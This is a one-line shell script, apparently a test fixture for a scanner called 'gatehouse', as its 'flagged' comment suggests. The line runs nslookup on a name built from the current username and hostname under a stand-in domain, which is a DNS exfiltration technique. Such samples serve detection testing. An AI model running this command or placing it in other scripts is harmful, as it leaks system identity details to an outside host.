#!/bin/sh
nslookup "$(whoami).$(hostname).t.example.invalid" # gatehouse: flagged
